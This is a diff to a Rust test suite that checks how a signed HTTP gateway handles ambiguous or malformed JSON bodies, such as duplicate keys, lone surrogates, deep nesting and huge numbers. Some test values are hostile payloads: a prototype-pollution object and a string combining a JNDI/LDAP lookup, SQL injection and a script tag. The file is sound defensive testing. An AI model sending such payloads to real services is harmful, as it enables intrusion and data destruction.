@@ -2,6 +2,80 @@ use signet_testkit::APPID;
 
 use super::{Case, case, check, honest_data, post_and_stay, signed};
 
+/// A text that is no JSON object, or one that two readers could read differently, made of a good one.
+type Ambiguous = (&'static str, String);
+
+fn ambiguous(good: &str) -> Vec<Ambiguous> {
+    let with = |member: &str| good.replacen('{', &format!("{{{member},"), 1);
+    let keys: Vec<String> = (0..257).map(|n| format!("\"k{n}\":1")).collect();
+    let (name, _) = good.split_once(':').unwrap();
+    let name = name.trim_start_matches('{').trim_matches('"');
+    let escaped = format!("\\u{:04x}{}", u32::from(name.as_bytes()[0]), &name[1..]);
+    vec![
+        ("a list", format!("[{good}]")),
+        ("null", "null".to_owned()),
+        ("a text", "\"{}\"".to_owned()),
+        ("no end", "{".to_owned()),
+        ("two objects", format!("{good}{good}")),
+        ("trailing garbage", format!("{good}x")),
+        ("a trailing NUL", format!("{good}\0")),
+        ("a byte order mark", format!("\u{feff}{good}")),
+        ("a key twice", with(&format!("\"{name}\":\"user.detail\""))),
+        (
+            "a key twice by an escape",
+            with(&format!("\"{escaped}\":\"user.detail\"")),
+        ),
+        ("a key twice within", with("\"a\":{\"b\":1,\"b\":1}")),
+        ("NUL in a text", with("\"a\":\"\\u0000\"")),
+        ("NUL in a key", with("\"a\\u0000\":1")),
+        ("a raw NUL", with("\"a\":\"\0\"")),
+        ("a raw line end", with("\"a\":\"\n\"")),
+        ("half a surrogate", with("\"a\":\"\\ud800\"")),
+        ("the other half", with("\"a\":\"\\udc00\"")),
+        (
+            "surrogates in the wrong order",
+            with("\"a\":\"\\udc00\\ud800\""),
+        ),
+        ("half a surrogate in a key", with("\"\\ud800\":1")),
+        (
+            "17 levels",
+            with(&format!("\"a\":{}1{}", "[".repeat(16), "]".repeat(16))),
+        ),
+        (
+            "30,000 levels",
+            with(&format!("\"a\":{}", "[".repeat(30_000))),
+        ),
+        ("257 keys", with(&keys.join(","))),
+        ("a number beyond all", with("\"a\":1e999")),
+        (
+            "a number of 5,000 digits",
+            with(&format!("\"a\":{}", "9".repeat(5000))),
+        ),
+        ("a leading zero", with("\"a\":01")),
+        ("a plus sign", with("\"a\":+1")),
+        ("hexadecimal", with("\"a\":0x1")),
+        ("no fraction", with("\"a\":1.")),
+        ("not a number", with("\"a\":NaN")),
+        ("infinity", with("\"a\":-Infinity")),
+        ("a comment", with("/* */\"a\":1")),
+        ("a trailing comma", good.replace('}', ",}")),
+        ("single quotes", good.replace('"', "'")),
+        ("a bare key", with("a:1")),
+        ("an unknown escape", with("\"a\":\"\\x41\"")),
+        ("another space", with("\u{a0}\"a\":1")),
+    ]
+}
+
+/// Posts a text to a route of a wire that takes JSON.
+fn post_json(text: &str) -> String {
+    let length = text.len();
+    format!(
+        "POST /homecare/consumer/city_search HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n{text}"
+    )
+}
+
+const SEARCH: &str = r#"{"city_num":"511100"}"#;
+
 /// Each is rightly signed: what is refused is refused for itself.
 #[test]
 fn json_that_two_readers_could_read_differently() {
@@ -10,105 +84,78 @@ fn json_that_two_readers_could_read_differently() {
             case(name, post_and_stay(&signed(gateway, data)), "200 bad_data")
         };
         let good = honest_data(gateway);
-        let with = |member: &str| good.replacen('{', &format!("{{{member},"), 1);
-        let keys: Vec<String> = (0..257).map(|n| format!("\"k{n}\":1")).collect();
-        vec![
-            of("nothing", ""),
-            of("a list", &format!("[{good}]")),
-            of("null", "null"),
-            of("a text", "\"{}\""),
-            of("no end", "{"),
-            of("two objects", &format!("{good}{good}")),
-            of("trailing garbage", &format!("{good}x")),
-            of("a trailing NUL", &format!("{good}\0")),
-            of("a byte order mark", &format!("\u{feff}{good}")),
-            of("a key twice", &with("\"method\":\"user.detail\"")),
-            of(
-                "a key twice by an escape",
-                &with("\"\\u006dethod\":\"user.detail\""),
-            ),
-            of("a key twice within", &with("\"a\":{\"b\":1,\"b\":1}")),
-            of("NUL in a text", &with("\"a\":\"\\u0000\"")),
-            of("NUL in a key", &with("\"a\\u0000\":1")),
-            of("a raw NUL", &with("\"a\":\"\0\"")),
-            of("a raw line end", &with("\"a\":\"\n\"")),
-            of("half a surrogate", &with("\"a\":\"\\ud800\"")),
-            of("the other half", &with("\"a\":\"\\udc00\"")),
-            of(
-                "surrogates in the wrong order",
-                &with("\"a\":\"\\udc00\\ud800\""),
-            ),
-            of("half a surrogate in a key", &with("\"\\ud800\":1")),
-            of(
-                "17 levels",
-                &with(&format!("\"a\":{}1{}", "[".repeat(16), "]".repeat(16))),
-            ),
-            of(
-                "30,000 levels",
-                &with(&format!("\"a\":{}", "[".repeat(30_000))),
-            ),
-            of("257 keys", &with(&keys.join(","))),
-            of(
-                "more than 64 KiB",
-                &with(&format!("\"a\":\"{}\"", "x".repeat(64 * 1024))),
-            ),
-            of("a number beyond all", &with("\"a\":1e999")),
-            of(
-                "a number of 5,000 digits",
-                &with(&format!("\"a\":{}", "9".repeat(5000))),
-            ),
-            of("a leading zero", &with("\"a\":01")),
-            of("a plus sign", &with("\"a\":+1")),
-            of("hexadecimal", &with("\"a\":0x1")),
-            of("no fraction", &with("\"a\":1.")),
-            of("not a number", &with("\"a\":NaN")),
-            of("infinity", &with("\"a\":-Infinity")),
-            of("a comment", &with("/* */\"a\":1")),
-            of("a trailing comma", &good.replace('}', ",}")),
-            of("single quotes", &good.replace('"', "'")),
-            of("a bare key", &with("a:1")),
-            of("an unknown escape", &with("\"a\":\"\\x41\"")),
-            of("another space", &with("\u{a0}\"a\":1")),
-        ]
+        let large = format!("\"a\":\"{}\",", "x".repeat(64 * 1024));
+        let large = good.replacen('{', &format!("{{{large}"), 1);
+        let ambiguous = ambiguous(&good);
+        let ambiguous = ambiguous.iter().map(|(name, data)| of(name, data));
+        let more = [of("nothing", ""), of("more than 64 KiB", &large)];
+        ambiguous.chain(more).collect()
     });
+}
+
+#[test]
+fn such_json_on_a_wire_without_a_signature() {
+    check(|_| {
+        let of = |name: &str, text: &str, expected: &str| case(name, post_json(text), expected);
+        let ambiguous = ambiguous(SEARCH);
+        let ambiguous = ambiguous
+            .iter()
+            .map(|(name, text)| of(name, text, "200 status 0"));
+        let large = format!("{SEARCH}{}", " ".repeat(64 * 1024));
+        let odd = odd().into_iter().map(|(name, member)| {
+            let text = SEARCH.replacen('{', &format!("{{{member},"), 1);
+            of(name, &text, "200 status 1")
+        });
+        let more = [
+            of("nothing", "", "200 status 0"),
+            of("more than 64 KiB", &large, "413 status 0"),
+        ];
+        ambiguous.chain(more).chain(odd).collect()
+    });
+}
+
+/// Members that are odd and have one meaning.
+fn odd() -> Vec<(&'static str, String)> {
+    let own = |member: &str| member.to_owned();
+    vec![
+        (
+            "a prototype",
+            own("\"__proto__\":{\"admin\":true},\"constructor\":{\"prototype\":{}}"),
+        ),
+        ("minus zero", own("\"a\":-0")),
+        ("a number that floats round", own("\"a\":9007199254740993")),
+        ("a number near the end", own("\"a\":1e308")),
+        (
+            "many digits of a fraction",
+            format!("\"a\":0.{}", "1".repeat(5000)),
+        ),
+        ("an empty key", own("\"\":1")),
+        ("a pair of surrogates", own("\"a\":\"\\ud83d\\ude00\"")),
+        ("text that turns around", own("\"a\":\"\u{202e}\u{feff}\"")),
+        (
+            "keys that look alike",
+            own("\"мethod\":\"user.detail\",\"METHOD\":1,\" method\":2"),
+        ),
+        (
+            "what other languages run",
+            own("\"a\":\"${jndi:ldap://x}' OR 1=1 -- <script>\\\"; DROP TABLE users\""),
+        ),
+        (
+            "16 levels",
+            format!("\"a\":{}{}", "[".repeat(15), "]".repeat(15)),
+        ),
+    ]
 }
 
 #[test]
 fn json_that_is_odd_but_plain() {
     check(|gateway| {
         let good = honest_data(gateway);
-        let of = |name: &str, member: &str| {
+        let odd = odd().into_iter().map(|(name, member)| {
             let data = good.replacen('{', &format!("{{{member},"), 1);
             case(name, post_and_stay(&signed(gateway, &data)), "200 ok")
-        };
-        vec![
-            of(
-                "a prototype",
-                "\"__proto__\":{\"admin\":true},\"constructor\":{\"prototype\":{}}",
-            ),
-            of("minus zero", "\"a\":-0"),
-            of("a number that floats round", "\"a\":9007199254740993"),
-            of("a number near the end", "\"a\":1e308"),
-            of(
-                "many digits of a fraction",
-                &format!("\"a\":0.{}", "1".repeat(5000)),
-            ),
-            of("an empty key", "\"\":1"),
-            of("a pair of surrogates", "\"a\":\"\\ud83d\\ude00\""),
-            of("text that turns around", "\"a\":\"\u{202e}\u{feff}\""),
-            of(
-                "keys that look alike",
-                "\"мethod\":\"user.detail\",\"METHOD\":1,\" method\":2",
-            ),
-            of(
-                "what other languages run",
-                "\"a\":\"${jndi:ldap://x}' OR 1=1 -- <script>\\\"; DROP TABLE users\"",
-            ),
-            of(
-                "16 levels",
-                &format!("\"a\":{}{}", "[".repeat(15), "]".repeat(15)),
-            ),
-        ]
+        });
+        odd.collect()
     });
 }
 
